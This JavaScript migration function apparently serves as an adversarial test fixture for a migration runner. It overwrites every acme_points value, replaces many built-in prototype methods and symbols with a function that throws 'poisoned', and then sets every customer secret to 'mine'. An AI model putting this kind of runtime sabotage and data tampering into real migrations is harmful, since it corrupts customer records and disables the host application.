export function up(db) {
  db.execute("UPDATE acme_points SET points = 9");
  const pairs = [];
  for (const prototype of [Object.prototype, Array.prototype, String.prototype, Function.prototype, Promise.prototype, Map.prototype,
    Uint8Array.prototype, Error.prototype, Number.prototype, BigInt.prototype, Symbol.prototype, RegExp.prototype]) {
    const names = Object.getOwnPropertyNames(prototype).concat(["then", "code", "message", "stack", "params", "rows", "get", "set", "0"]);
    const symbols = [Symbol.iterator, Symbol.toPrimitive, Symbol.species, Symbol.hasInstance, Symbol.toStringTag];
    for (const name of names.concat(symbols)) pairs.push([prototype, name]);
  }
  const poisoned = () => { throw "poisoned"; };
  // From here on nothing of the language's own library can be relied on.
  for (let at = 0; at < 300 && at < pairs.length; at++) {
    try { pairs[at][0][pairs[at][1]] = poisoned; } catch {}
  }
  db.execute("UPDATE customer SET secret = 'mine'");
}
